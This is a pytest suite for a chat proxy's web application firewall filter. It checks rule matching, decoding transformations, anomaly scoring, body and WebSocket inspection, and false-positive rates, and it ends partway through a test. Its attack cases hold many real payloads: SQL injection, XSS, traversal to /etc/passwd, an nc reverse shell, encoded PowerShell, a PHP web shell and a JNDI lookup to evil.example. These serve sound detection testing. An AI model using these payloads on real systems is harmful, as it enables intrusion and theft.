"""The built-in filter kind ``waf``: its rule table and transformations on constructed
request heads, anomaly scoring (threshold, paranoia levels, disable_rules), body and
WebSocket message inspection, the log line, build-time option errors (directly and
through the configuration loader), quality floors on the attack / benign-chat corpus
(tests/waf_corpus, measured by bench/waf/measure.py), and the filter in a real
``twistd -n chatproxy`` process with real clients."""

from __future__ import annotations

import importlib.util
import json
import sys
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from twisted.logger import Logger, formatEvent

from chatproxy.config import ConfigError, load_config
from chatproxy.proxy.validate import validate
from chatproxy.filters import CloseSession, FilterOptionError, IFilterFactory, IRequestFilter, Refuse, installed_filter_kinds
from chatproxy.filters import waf as waf_module
from chatproxy.filters import waf_rules
from chatproxy.filters.waf import BLOCKED, WebApplicationFirewall, waf
from chatproxy.filters.waf_rules import RULES, RULES_BY_ID, Value
from chatproxy.http.messages import RequestHead
from chatproxy.testing import request_head
from conftest import free_port, wait_for_port
from test_filters_basic import WsUpstream, config, listen, log_line, send, ws_upstream  # noqa: F401 (fixture)

ROOT = Path(__file__).resolve().parents[1]
HAVE_LIBINJECTION = waf_rules.libinjection() is not None


def _load_measure() -> Any:
    spec = importlib.util.spec_from_file_location("waf_measure", ROOT / "bench" / "waf" / "measure.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules["waf_measure"] = module
    spec.loader.exec_module(module)
    return module


measure = _load_measure()

BROWSER = [("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"),
           ("Accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
           ("Accept-Language", "fr-FR,fr;q=0.9"),
           ("Cookie", "JSESSIONID=0A1B2C3D4E5F; Pega-RULES=%7Babc%7D; lang=fr")]


def make_head(query: str = "", headers: list[tuple[str, str]] | None = None, path: str = "/prweb/chat",
              method: str = "GET", host: str = "chat.example.com", target: str | None = None) -> RequestHead:
    """A request head as the proxy builds it: browser headers unless ``headers`` is given,
    Host added."""
    return request_head(target, method=method, path=path, query=query,
                        headers=BROWSER if headers is None else headers, host=host)


def q(value: str, name: str = "q") -> str:
    """A query string with one argument (percent-encoded once)."""
    return f"{name}={quote(value, safe='')}"


def ids(inspection: Any) -> set[int]:
    """The matched rule ids of an Inspection."""
    return set(inspection.rule_ids)


PURE = WebApplicationFirewall(use_libinjection=False)


# ---------------------------------------------------------------------------
# Registration


def test_waf_is_an_installed_plugin():
    """``waf`` is found by getPlugins under its name, provides IFilterFactory, and
    builds (with no options at all) an object providing IRequestFilter with the
    documented defaults."""
    kinds = installed_filter_kinds()
    assert kinds["waf"] is waf
    assert IFilterFactory.providedBy(waf)
    built = waf.build({})
    assert IRequestFilter.providedBy(built)
    assert (built.paranoia, built.threshold, built.inspect_body_bytes, built.disabled) == (1, 5, 65536, frozenset())
    assert built.libinjection is HAVE_LIBINJECTION


def test_rule_table_is_well_formed():
    """Every rule has a unique id in a CRS range matching its category, a message,
    a severity with its CRS score and a paranoia level from 1 to 4."""
    ranges = {"sqli": ("942",), "xss": ("941",), "lfi": ("930", "933"), "rce": ("932", "933", "934", "944"),
              "protocol": ("920", "921", "200")}
    assert len(RULES_BY_ID) == len(RULES)
    for r in RULES:
        assert str(r.id)[:3] in ranges[r.category], r.id
        assert r.message and 1 <= r.paranoia <= 4
        assert r.score == {"critical": 5, "error": 4, "warning": 3, "notice": 2}[r.severity]


# ---------------------------------------------------------------------------
# Transformations


@pytest.mark.parametrize("transform, raw, expected", [
    ("decoded", "%2527%20or%201%3d1", "' or 1=1"),  # double encoding
    ("decoded", "%u0027 or 1=1", "' or 1=1"),  # IIS %u form
    ("decoded", "..%c0%af..%c0%afetc", "../../etc"),  # overlong UTF-8
    ("decoded", "%uff1cscript%uff1e", "<script>"),  # full width, NFKC-folded
    ("decoded", "50% off", "50% off"),  # a lone % stays
    ("html", "&lt;ScRiPt&gt;", "<script>"),
    ("html", "&amp;lt;img&amp;gt;", "<img>"),
    ("html", "&#106;&#97;&#118;&#97;", "java"),
    ("html", "\\u003cscript\\u003e", "<script>"),
    ("html_tight", "jav&#x09;ascript:alert(1)", "javascript:alert(1)"),
    ("sql", "1'/**/UNION/**/SELECT", "1' union select"),
    ("sql", "1 /*!50000UNION*/ SELECT", "1 union select"),
    ("cmd", "c'a't /etc/pa''sswd", "cat /etc/passwd"),
    ("cmd", "cat$IFS/etc/passwd", "cat /etc/passwd"),
    ("cmd", "{cat,/etc/passwd}", "cat /etc/passwd"),
    ("path", "..\\..\\Windows\\win.ini", "../../windows/win.ini"),
    ("path", "/etc/./passwd", "/etc/passwd"),
    ("path", "/etc//passwd", "/etc/passwd"),
    ("path", "..%u2215..%u2215etc", "../../etc"),
    ("path", "file.php%00.jpg", "file.php.jpg"),
])
def test_transformations(transform, raw, expected):
    """The CRS-style transformations a rule matches on: repeated URL decoding (incl.
    %u and overlong UTF-8), HTML entity and JS escape decoding, SQL comment removal,
    shell de-obfuscation, and path normalisation without resolving ``..``."""
    assert Value(raw).get(transform) == expected


# ---------------------------------------------------------------------------
# The rule table on requests


# (query value, rule ids expected among the matches); every one is refused at paranoia 1.
ATTACK_CASES = [
    ("' or '1'='1", {942180}),
    ("1 or 1=1", {942330}),
    ("admin'--", {942260}),
    ("1' UNION/**/SELECT username,password FROM users--", {942270, 942370}),
    ("1; DROP TABLE users", {942350}),
    ("' and sleep(5)--", {942160}),
    ("' union select table_name from information_schema.tables--", {942140}),
    ("1 /*!UNION*/ /*!SELECT*/ 1,2", {942500}),
    ("'; exec master..xp_cmdshell 'dir'--", {942190}),
    ('{"$ne": null}', {942290}),
    ("' into outfile '/var/www/x.php'--", {942360}),
    ("1' order by 10--", {942380}),
    ("' AND extractvalue(1,concat(0x7e,version()))--", {942151}),
    ("<script>alert(1)</script>", {941110}),
    ("<img src=x onerror=alert(1)>", {941120, 941160}),
    ('<a href="jav&#x09;ascript:alert(1)">x</a>', {941170}),
    ("<svg><a xlink:href=\"javascript:alert(1)\">", {941130}),
    ("<div style=\"width: expression(alert(1))\">", {941140}),
    ("document.cookie", {941180}),
    ("+ADw-script+AD4-alert(1)", {941350}),
    ("window['alert'](1)", {941370}),
    ("{{constructor.constructor('alert(1)')()}}", {941380}),
    ("setTimeout('alert(1)',0)", {941390}),
    ("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]", {941901}),
    ("%3Cscript%3Ealert(1)%3C/script%3E", {941110}),  # double-encoded on the wire
    ("..%2f..%2f..%2fetc%2fpasswd", {930100}),
    ("../../../../etc/passwd", {930110, 930120}),
    ("..\\..\\..\\windows\\win.ini", {930110, 930120}),
    ("/proc/self/environ", {930120}),
    ("../../.env", {930130}),
    ("php://filter/convert.base64-encode/resource=index.php", {933200}),
    ("; cat /etc/passwd", {932100}),
    ("| nc -e /bin/sh 10.0.0.1 4444", {932100, 932160}),
    ("& type C:\\Windows\\win.ini", {932110}),
    ("powershell -nop -w hidden -enc SQBFAFgA", {932120}),
    (";cat$IFS/etc/passwd", {932130}),
    ("() { :; }; /bin/bash -c id", {932170}),
    ("<?php system($_GET['c']); ?>", {933100, 933130, 933160}),
    ('O:8:"Exploit":1:{s:4:"code";s:2:"id";}', {933170}),
    ("require('child_process').exec('id')", {934100}),
    ("__proto__[isAdmin]=true", {934130}),
    ("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", {934900}),
    ("__import__('os').system('id')", {934910}),
    ("java.lang.Runtime.getRuntime().exec(\"id\")", {944100}),
    ("class.module.classLoader.resources.context.parent", {944110}),
    ("%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", {944130}),
    ("${${lower:j}ndi:${lower:l}dap://evil.example/a}", {944150}),
    ("x\r\nSet-Cookie: admin=1", {921130}),
    ("x\r\n\r\nHTTP/1.1 200 OK", {921130, 921120}),
    ("\u560a\u560dSet-Cookie: x=1", {921130}),  # low-byte CR/LF
    ("file.php\x00.jpg", {920270}),
    ("x\x1b[2Jcleared", {920271}),
]


@pytest.mark.parametrize("value, expected", ATTACK_CASES)
def test_attack_in_a_query_value_is_refused(value, expected):
    """At paranoia 1 (without libinjection), the payload as a query value is refused
    with 403 and the expected rules are among those that matched."""
    head = make_head(q(value))
    assert expected <= ids(PURE.inspect_request(head)), PURE.inspect_request(head).rule_ids
    decision = PURE.request(head)
    assert isinstance(decision, Refuse) and (decision.status, decision.reason) == (403, BLOCKED)


BENIGN_CASES = [
    "Hi, I'd like to check the status of my order please",
    "My name is Siobhán O'Brien, order #A-10234",
    "I have 2 or 3 questions about the invoice",
    "Is it 'red' or 'blue' that you have in stock?",
    "Please select the premium plan; I want to drop the old one",
    "The union of both accounts would be ideal",
    "I saved it to C:\\Users\\marie\\Documents\\invoice.pdf",
    "Step 1: open the app; step 2: tap settings; find the key",
    "Tom & Jerry DVD set, AT&T is my provider",
    "Our code does if (order.total > 100) { applyDiscount(); }",
    "The email shows raw HTML like <p>Dear customer,</p><br> at the top",
    "In the template I wrote {{ order.number }} and it isn't replaced",
    "Go to Settings --> Notifications --> turn off",
    "Password must contain one of !@#$%^&*",
    "こんにちは、注文した商品がまだ届きません。",
    "esc:Hi,\nI have two questions:\n1) where is my order",
    "https://shop.example.com/orders/45512?ref=email&utm_source=newsletter",
]


@pytest.mark.parametrize("value", BENIGN_CASES)
def test_benign_chat_in_a_query_value_passes(value):
    """Ordinary chat text (quotes, SQL and shell words, symbols, HTML-ish text,
    non-Latin scripts, line breaks) as a query value passes at paranoia 1, with
    and without libinjection."""
    value = measure.unescape(value[4:]) if value.startswith("esc:") else value
    head = make_head(q(value))
    assert PURE.request(head) is None, PURE.inspect_request(head).rule_ids
    assert waf.build({}).request(head) is None


@pytest.mark.parametrize("kind, head, expected", [
    ("path (encoded, double-encoded)", make_head(target="/static/..%252f..%252fetc/passwd", path="/static/"), 930100),
    ("path xss", make_head(target="/chat/%3Cscript%3Ealert(1)%3C%2Fscript%3E", path="/chat/"), 941110),
    ("argument name", make_head(q("1", name="<script>alert(1)</script>")), 941110),
    ("cookie value", make_head(headers=[("Cookie", "session=' or 1=1--")]), 942180),
    ("cookie value encoded", make_head(headers=[("Cookie", "pref=%3Cscript%3Ealert(1)%3C%2Fscript%3E")]), 941110),
    ("custom header", make_head(headers=[("X-Forwarded-Host", "${jndi:ldap://evil.example/a}")]), 944150),
    ("custom header traversal", make_head(headers=[("X-Original-URL", "/../../etc/passwd")]), 930110),
    ("user-agent shellshock", make_head(headers=[("User-Agent", "() { :; }; /bin/bash -c 'id'")]), 932170),
    ("referer xss", make_head(headers=[("Referer", "https://x.example/?q=<script>alert(1)</script>")]), 941110),
])
def test_targets_beyond_query_values(kind, head, expected):
    """The path, argument names, cookie values, custom header values and User-Agent /
    Referer are inspected at paranoia 1 (for the rules documented for them)."""
    inspection = PURE.inspect_request(head)
    assert expected in ids(inspection), (kind, inspection.rule_ids)
    assert isinstance(PURE.request(head), Refuse)


def test_excluded_headers_and_user_agent_at_paranoia_1():
    """Authorization, Accept and the Sec-CH-UA headers are not inspected by attack
    rules; a User-Agent with SQL syntax is only inspected for SQLi from paranoia 2."""
    head = make_head(headers=[("Authorization", "Basic ' or 1=1--"), ("Accept", "<script>"),
                              ("Sec-CH-UA", '"Chromium";v="120", "Not?A_Brand";v="8"'),
                              ("User-Agent", "sqlmap' or 1=1--")])
    assert PURE.request(head) is None
    level2 = WebApplicationFirewall(paranoia=2, use_libinjection=False)
    assert 942180 in ids(level2.inspect_request(head))
    assert isinstance(level2.request(head), Refuse)


PROTOCOL_CASES = [
    (920100, dict(method="G\u00c9T")),
    (920160, dict(headers=[("Content-Length", "12abc")], method="POST")),
    (920161, dict(headers=[("Content-Length", "5"), ("Content-Length", "5")], method="POST")),
    (920161, dict(headers=[("Content-Length", "5"), ("Transfer-Encoding", "chunked")], method="POST")),
    (920170, dict(headers=[("Content-Length", "5"), ("Content-Type", "text/plain")])),
    (920220, dict(query="q=%zz")),
    (920311, dict(headers=[("Accept", " "), ("User-Agent", "x")])),
    (920330, dict(headers=[("User-Agent", "")])),
    (920340, dict(headers=[("Content-Length", "5")], method="POST")),
    (920350, dict(host="203.0.113.9")),
    (920440, dict(path="/backup/site.sql", target="/backup/site.sql")),
    (920450, dict(headers=[("Proxy", "http://evil.example")])),
    (920470, dict(headers=[("Content-Type", "text/plain; evil\"stuff"), ("Content-Length", "1")], method="POST")),
    (920480, dict(headers=[("Content-Type", "text/plain; charset=utf-7"), ("Content-Length", "1")],
                  method="POST")),
]


@pytest.mark.parametrize("rule_id, head_options", PROTOCOL_CASES)
def test_request_level_protocol_rules(rule_id, head_options):
    """Each request-level protocol rule (920xxx) recognises its anomaly in the head
    (some are refused by the HTTP parser already: the filter checks them anyway)."""
    inspection = PURE.inspect_request(make_head(**head_options))
    assert rule_id in ids(inspection), inspection.rule_ids


def test_a_clean_browser_request_matches_nothing_at_any_paranoia_level():
    """A typical browser request with cookies and a chat query matches no rule at
    paranoia 1 and is not refused at any level."""
    head = make_head("pyActivity=pzMashupRequest&pzHarnessID=HID6F0E5A1C&AJAXTrackID=3")
    assert PURE.inspect_request(head).matches == []
    for level in (1, 2, 3, 4):
        assert WebApplicationFirewall(paranoia=level, use_libinjection=False).request(head) is None, level


# ---------------------------------------------------------------------------
# Scoring, threshold, paranoia levels, disable_rules


def test_scores_add_up_against_the_threshold():
    """A single warning (920350, numeric Host: 3) stays below the default threshold;
    with threshold = 3 it is refused; two warnings (920350 + 920220: 6) reach 5."""
    one = make_head(host="203.0.113.9")
    inspection = PURE.inspect_request(one)
    assert (inspection.rule_ids, inspection.score) == ([920350], 3)
    assert PURE.request(one) is None
    assert isinstance(waf.build({"threshold": "3"}).request(one), Refuse)
    two = make_head("q=100%", host="203.0.113.9")
    inspection = PURE.inspect_request(two)
    assert sorted(inspection.rule_ids) == [920220, 920350] and inspection.score == 6
    assert isinstance(PURE.request(two), Refuse)


def test_a_rule_counts_once_however_many_targets_match():
    """A rule matching three arguments adds its score once (CRS anomaly scoring per rule)."""
    query = "&".join(q("<script>alert(1)</script>", name=f"a{i}") for i in range(3))
    inspection = waf.build({"disable_rules": "941100,941160,941390"}).inspect_request(make_head(query))
    assert inspection.rule_ids == [941110]
    assert inspection.score == 5


@pytest.mark.parametrize("value, level", [
    ("nice if(you can) help", 2),  # 942150 generic SQL function name
    ("see <b>this</b> please", 3),  # 941330 any tag
    ("a'b\"c(d)e;f:g", 3),  # 942431 six special characters
    ("a'b", 4),  # 942432 two special characters (+ 942431 not reached)
])
def test_paranoia_levels_gate_rules(value, level):
    """A value matching only rules of paranoia ``level`` passes below that level and
    matches from it on."""
    for paranoia in range(1, 5):
        firewall = WebApplicationFirewall(paranoia=paranoia, use_libinjection=False)
        matched = [r for r in firewall.inspect_request(make_head(q(value))).rule_ids]
        if paranoia < level:
            assert matched == [], (paranoia, matched)
        else:
            assert matched and all(RULES_BY_ID[i].paranoia <= paranoia for i in matched), (paranoia, matched)


def test_disable_rules_turns_rules_off():
    """disable_rules removes rules: with every rule that matches an attack disabled
    the request passes; the others still apply."""
    head = make_head(q("admin'--"))
    matched = PURE.inspect_request(head).rule_ids
    assert matched == [942260]
    assert waf.build({"disable_rules": "942260, 942100"}).request(head) is None
    assert isinstance(waf.build({"disable_rules": "942180"}).request(head), Refuse)


def test_libinjection_rules(monkeypatch):
    """942100/941100 run only when libinjection is installed and enabled; without it
    the pattern rules alone decide."""
    head = make_head(q("1' AND 8455=8455 AND 'a'='a"))
    assert 942100 not in ids(PURE.inspect_request(head))
    if HAVE_LIBINJECTION:
        with_lib = WebApplicationFirewall(use_libinjection=True)
        inspection = with_lib.inspect_request(head)
        assert 942100 in ids(inspection)
        assert "fingerprint" in next(m.detail for m in inspection.matches if m.rule.id == 942100)
    else:
        with pytest.raises(RuntimeError):
            WebApplicationFirewall(use_libinjection=True)
    monkeypatch.setattr(waf_rules, "_libinjection", None)
    monkeypatch.setattr(waf_rules, "_libinjection_loaded", True)
    assert waf.build({}).libinjection is False


# ---------------------------------------------------------------------------
# Bodies and messages


MULTIPART = (b"--XyZ\r\nContent-Disposition: form-data; name=\"message\"\r\n\r\n; cat /etc/passwd\r\n"
             b"--XyZ\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"../../shell.php\"\r\n"
             b"Content-Type: text/plain\r\n\r\n<script>not inspected</script>\r\n--XyZ--\r\n")


@pytest.mark.parametrize("content_type, body, expected", [
    ("application/x-www-form-urlencoded", b"name=jane&msg=%27+union+select+1%2C2--", {942270}),
    ("application/x-www-form-urlencoded; charset=UTF-8", b"msg=Bonjour%2C+j%27ai+une+question", set()),
    ("application/json", b'{"chat": {"lines": ["hi", "<img src=x onerror=alert(1)>"]}}', {941120}),
    ("application/json", b'{"<script>alert(1)</script>": 1}', {941110}),  # keys are inspected
    ("application/vnd.api+json", b'{"q": "../../etc/passwd"}', {930110}),
    ("application/json", b'{"text": "I\'d like a refund", "n": 5, "ok": true}', set()),
    ("application/json", b'{"broken": ', {200002}),
    ("multipart/form-data; boundary=XyZ", MULTIPART, {932100, 930120, 930110}),
    ("multipart/form-data", MULTIPART, {200002}),  # no boundary
    ("text/plain", b"hello; cat /etc/passwd", {932100}),
    ("image/png", b"<script>alert(1)</script>", set()),  # binary types are not inspected
])
def test_inspect_body(content_type, body, expected):
    """inspect_body parses url-encoded fields, JSON keys and string values and
    multipart field values (and file names, not file contents); a body that does not
    parse is rule 200002; text bodies are one value; other types are skipped."""
    inspection = PURE.inspect_body(content_type, body)
    assert expected <= ids(inspection) if expected else inspection.matches == [], inspection.rule_ids
    if expected:
        assert inspection.score >= 5


def test_inspect_body_bytes_limits_what_is_inspected():
    """Only the first inspect_body_bytes are inspected; a JSON body cut at the limit is
    inspected as text (not a parse error); 0 turns body inspection off."""
    padding = b'{"pad": "' + b"x" * 200 + b'", "q": "<script>alert(1)</script>"}'
    small = waf.build({"inspect_body_bytes": "100"})
    assert small.inspect_body("application/json", padding).matches == []
    assert 941110 in ids(waf.build({"inspect_body_bytes": "1k"}).inspect_body("application/json", padding))
    cut = b'{"q": "<script>alert(1)</script>", "pad": "' + b"x" * 200 + b'"}'
    assert ids(small.inspect_body("application/json", cut)) >= {941110}
    assert 200002 not in ids(small.inspect_body("application/json", cut))
    assert waf.build({"inspect_body_bytes": "0"}).inspect_body("text/plain", b"; cat /etc/passwd").matches == []


def test_request_body_adds_to_the_head_score():
    """request_body (the proxy's body hook) refuses on the head's and the body's
    score together; a body cut short (complete = False) that no longer parses is not
    a parse error; a body matching nothing passes."""
    head = make_head(host="203.0.113.9", method="POST",
                     headers=BROWSER + [("Content-Type", "application/json"), ("Content-Length", "30")])
    assert PURE.request(head) is None  # 920350 alone: 3
    assert PURE.request_body(head, b'{"a": "fine"}', True) is None
    assert isinstance(PURE.request_body(head, b'{"a": "1 and 1=1"}', True), Refuse)  # 3 + 5 (942330)
    assert PURE.request_body(head, b'{"a": "fine", "b": "more to co', False) is None
    assert isinstance(PURE.request_body(head, b'{"a": "fine", "b": "more to co', True), Refuse)  # 200002
    assert isinstance(PURE.request_body(head, b'{"a": "<script>alert(1)</script>", "b": "more', False), Refuse)


def test_body_hook_attributes():
    """The filter exposes the proxy's body hook: an int inspect_body_bytes and a
    request_body method; no max_body_bytes (the WAF does not lower body limits)."""
    built = waf.build({"inspect_body_bytes": "8k"})
    assert built.inspect_body_bytes == 8192 and callable(built.request_body)
    assert getattr(built, "max_body_bytes", None) is None


@pytest.mark.parametrize("payload, binary, upward, closed", [
    (b'{"type": "message", "text": "\' union select password from users--"}', False, True, True),
    (b'{"type": "message", "text": "Where is my order? It\'s #4512"}', False, True, False),
    (b'{"$where": "sleep(5000)"}', False, True, True),  # JSON keys are inspected
    (b"<script>alert(1)</script>", False, True, True),  # plain text message
    (b'{"broken json <script>alert(1)</script>', False, True, True),
    (b"<script>alert(1)</script>", True, True, False),  # binary messages are not inspected
    (b"<script>alert(1)</script>", False, False, False),  # nor messages from the upstream
    ('{"text": "Bonjour, où est ma commande ?"}'.encode(), False, True, False),
])
def test_message_hook(payload, binary, upward, closed):
    """The WebSocket message hook inspects client text messages (JSON ones by keys
    and string values) and closes the session with 1008 over the threshold."""
    verdict = PURE.message(make_head(), payload, binary, upward)
    if closed:
        assert verdict == CloseSession(1008, BLOCKED)
    else:
        assert verdict is None


@pytest.mark.parametrize("name, text", [
    ("line breaks", "\r\n" * 32000),
    ("template braces", "{{" * 32000 + "x"),
    ("tags", "<a " * 21000),
    ("statements", "select 1 " * 7000),
    ("comments", "*/" + "/*!" * 21000),
    ("shell glob", "; /" + "a?" * 32000 + "!"),
    ("lookups", "${" + "${lower:" * 8000),
])
def test_large_adversarial_values_are_inspected_in_linear_time(name, text):
    """A 64 kB message built to make regular expressions backtrack is inspected at
    paranoia 4 in well under 5 seconds (before the patterns were bounded some took
    minutes): no rule backtracks quadratically."""
    import time

    firewall = WebApplicationFirewall(paranoia=4)
    started = time.monotonic()
    firewall.message(make_head(), text.encode()[:65536], False, True)
    assert time.monotonic() - started < 5.0, name


# ---------------------------------------------------------------------------
# The log line


def test_log_line_lists_rules_targets_and_excerpts(monkeypatch):
    """The log line names the score, threshold and paranoia, each matched rule's id
    and message, the target, and at most 100 characters of the value (escaped)."""
    events: list[dict[str, Any]] = []
    monkeypatch.setattr(waf_module, "log", Logger(observer=events.append))
    long_value = "' or 1=1-- " + "x" * 300 + "\x1b[2J"
    assert isinstance(PURE.request(make_head(q(long_value, name="msg"))), Refuse)
    assert len(events) == 1
    line = formatEvent(events[0])
    assert line.startswith("waf: anomaly score ")
    assert "reaches threshold 5 (paranoia 1) for GET /prweb/chat?msg=" in line
    assert "942180 Detects basic SQL authentication bypass attempts 1/3" in line
    assert "at ARGS:msg=\"' or 1=1-- xxxx" in line
    assert "x" * 101 not in line and "\x1b" not in line
    assert "..." in line
    events.clear()
    assert PURE.request(make_head(host="203.0.113.9")) is None
    assert "is below threshold 5" in formatEvent(events[0])
    events.clear()
    assert PURE.request(make_head("q=hello")) is None
    assert events == []  # nothing matched: no line


# ---------------------------------------------------------------------------
# Options


@pytest.mark.parametrize("options, option, message", [
    ({"paranoia": "5"}, "paranoia", "expected a paranoia level from 1 to 4, got 5"),
    ({"paranoia": "high"}, "paranoia", "expected a paranoia level from 1 to 4, got 'high'"),
    ({"threshold": "0"}, "threshold", "expected a whole number of at least 1, got 0"),
    ({"threshold": "5.5"}, "threshold", "expected a whole number of at least 1, got '5.5'"),
    ({"inspect_body_bytes": "lots"}, "inspect_body_bytes", "expected a size such as 65536, 64k or 10m"),
    ({"inspect_body_bytes": "17m"}, "inspect_body_bytes", "must be at most 16m"),
    ({"disable_rules": "942100, 123"}, "disable_rules", "unknown rule id 123"),
    ({"disable_rules": "sqli"}, "disable_rules", "'sqli' is not a rule id"),
    ({"paranioa": "2"}, "paranioa", "unknown option (waf takes: paranoia, threshold, inspect_body_bytes, "
                                    "disable_rules)"),
])
def test_build_errors_name_the_option(options, option, message):
    """Bad options raise FilterOptionError naming the option."""
    with pytest.raises(FilterOptionError) as info:
        waf.build(options)
    assert info.value.option == option
    assert message in info.value.message


def test_build_accepts_every_option():
    """All options together, with lists comma- or newline-separated."""
    built = waf.build({"paranoia": "3", "threshold": "10", "inspect_body_bytes": "1m",
                       "disable_rules": "942100\n920350, 941100"})
    assert (built.paranoia, built.threshold, built.inspect_body_bytes) == (3, 10, 1024 * 1024)
    assert built.disabled == {942100, 920350, 941100}
    assert not built.active & {942100, 920350, 941100}


def test_config_errors_name_file_section_and_option(tmp_path):
    """Through load_config and validate, an option error names the file, the [filter:NAME] section
    and the option."""
    path = tmp_path / "chat.ini"
    path.write_text("[listen:main]\nendpoint = tcp:0\n\n[filter:firewall]\nuse = waf\ndisable_rules = 942100, 1\n")
    with pytest.raises(ConfigError) as info:
        validate(load_config([path]))
    assert str(info.value).startswith(f"{path} [filter:firewall] disable_rules: unknown rule id 1")
    path.write_text("[listen:main]\nendpoint = tcp:0\n\n[filter:firewall]\nuse = waf\nparanoia = 0\n")
    with pytest.raises(ConfigError) as info:
        validate(load_config([path]))
    assert str(info.value) == f"{path} [filter:firewall] paranoia: expected a paranoia level from 1 to 4, got 0"


# ---------------------------------------------------------------------------
# Quality on the corpus


def _corpus() -> tuple[list[tuple[str, str]], list[str]]:
    return measure.load_attacks(), measure.load_benign()


@pytest.mark.parametrize("use_libinjection", [False, True], ids=["rules", "rules+libinjection"])
@pytest.mark.parametrize("form", ["query", "ws"])
def test_quality_floors_at_paranoia_1(form, use_libinjection):
    """On the whole corpus (the main, holdout and blind sets of tests/waf_corpus), at
    paranoia 1 and threshold 5, as query values and as JSON WebSocket messages: at
    least 90% of the attacks are refused overall and at least 85% in each category,
    and at most 1% of the benign chat lines are."""
    if use_libinjection and not HAVE_LIBINJECTION:
        pytest.skip("libinjection-python is not installed")
    attacks, benign = _corpus()
    assert len(attacks) >= 750 and len(benign) >= 700
    result = measure.measure(WebApplicationFirewall(paranoia=1, use_libinjection=use_libinjection), form,
                             attacks, benign)
    assert result["overall"] >= 0.90, result["misses"]
    for category, rate in result["detection"].items():
        assert rate >= 0.85, (category, [p for c, p in result["misses"] if c == category])
    assert result["false_positive_rate"] <= 0.01, result["false_positives"]


def test_higher_paranoia_detects_at_least_as_much():
    """Detection never drops as the paranoia level rises (rules are only added)."""
    attacks, _ = _corpus()
    sample = attacks[::3]
    rates = [measure.measure(WebApplicationFirewall(paranoia=level, use_libinjection=False), "query", sample,
                             [])["overall"] for level in (1, 2, 3, 4)]
    assert rates == sorted(rates), rates


def test_corpus_files_parse():
    """Every corpus line belongs to a known category; esc: lines unescape."""
    attacks, benign = _corpus()
    assert {category for category, _ in attacks} == set(measure.CATEGORIES)
    assert ("protocol", "foo\r\nSet-Cookie: session=attacker") in attacks
    assert ("rce", "#{7*7}") in attacks  # a payload starting with "#" is not a comment
    assert "Line one\r\nLine two" in benign


# ---------------------------------------------------------------------------
# Through a real twistd process


WAF_FILTER = "[filter:firewall]\nuse = waf\n"


def test_waf_through_twistd(proxy, upstream):
    """Through twistd: a request with SQL injection in the query gets 403 with the
    short body and never reaches the upstream; XSS in a cookie likewise; a benign chat
    request (apostrophes, Pega query arguments) reaches the upstream; the log has the
    waf line with the rule ids and the chain's refusal line."""
    port = free_port()
    process = proxy.start(config(upstream.url, listen(port), "filters = firewall", WAF_FILTER), port=port)

    refused = send(port, "GET", "/prweb/PRChat/app/?pyActivity=x&q=" + quote("' or '1'='1' --", safe=""))
    assert refused.status == 403
    assert refused.body == BLOCKED.encode() + b"\n"
    cookie = send(port, "GET", "/echo/cookie", [("Cookie", "pref=%3Cscript%3Ealert(1)%3C%2Fscript%3E")])
    assert cookie.status == 403

    benign = "/echo/chat?pyActivity=pzMashupRequest&message=" + quote("Hi, I'd like to check order #4512 :)",
                                                                        safe="")
    ok = send(port, "GET", benign, [("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"), ("Accept", "*/*")])
    assert ok.status == 200
    assert [r["path"] for r in upstream.requests] == [benign]

    line = log_line(process, "waf: anomaly score")
    assert "reaches threshold 5 (paranoia 1) for GET /prweb/PRChat/app/" in line
    assert "942180 Detects basic SQL authentication bypass attempts" in line and "at ARGS:q=" in line
    assert "filter firewall refused GET /prweb/PRChat/app/" in log_line(process, "filter firewall refused")


def test_waf_request_bodies_through_twistd(proxy, upstream):
    """Through twistd with inspect_body_bytes = 1k: a form body with SQL injection and
    a JSON body with XSS get 403 and never reach the upstream; a benign JSON chat
    message and a benign 50 kB body (larger than the inspected part) reach it intact;
    an attack placed after the inspected first kilobyte is not seen (documented)."""
    import hashlib

    port = free_port()
    proxy.start(config(upstream.url, listen(port), "filters = firewall", WAF_FILTER + "inspect_body_bytes = 1k\n"),
                port=port)
    form = [("Content-Type", "application/x-www-form-urlencoded")]
    data = [("Content-Type", "application/json")]
    refused = send(port, "POST", "/echo/form", form, b"name=jane&msg=%27+union+select+password+from+users--")
    assert refused.status == 403 and refused.body == BLOCKED.encode() + b"\n"
    assert send(port, "POST", "/echo/json", data, b'{"text": "<svg onload=alert(1)>"}').status == 403

    chat = json.dumps({"type": "message", "text": "Hi, I'd like to return order #4512 -- it's too small"}).encode()
    ok = send(port, "POST", "/echo/chat", data, chat)
    assert ok.status == 200 and ok.json()["body_sha"] == hashlib.sha256(chat).hexdigest()
    big = json.dumps({"text": "fine " * 10000}).encode()
    ok = send(port, "POST", "/echo/big", data, big)
    assert ok.status == 200 and ok.json()["body_length"] == len(big)
    assert ok.json()["body_sha"] == hashlib.sha256(big).hexdigest()
    late = json.dumps({"pad": "x" * 2000, "text": "<script>alert(1)</script>"}).encode()
    assert send(port, "POST", "/echo/late", data, late).status == 200
    assert [r["path"] for r in upstream.requests] == ["/echo/chat", "/echo/big", "/echo/late"]


def test_waf_report_mode_through_twistd(proxy, upstream):
    """mode = report: a request with a traversal passes to the upstream and the twistd
    log says the filter would have refused it (and the waf line names the rule)."""
    port = free_port()
    process = proxy.start(config(upstream.url, listen(port), "filters = firewall",
                                 WAF_FILTER + "mode = report\n"), port=port)
    target = "/echo/reported?file=" + quote("../../../../etc/passwd", safe="")
    response = send(port, "GET", target)
    assert response.status == 200
    assert [r["path"] for r in upstream.requests] == [target]
    line = log_line(process, "would have refused")
    assert f"filter firewall (report mode) would have refused GET {target}" in line
    assert f"403 {BLOCKED}" in line
    assert "930120 OS File Access Attempt at ARGS:file=" in log_line(process, "waf: anomaly score")


def test_waf_websocket_messages_through_twistd(proxy, ws_upstream):  # noqa: F811
    """Through twistd on a websocket = yes route: benign chat messages are echoed; a
    message with XSS closes the session with 1008 and the reason instead of being
    relayed (no echo comes back)."""
    from websockets.exceptions import ConnectionClosed
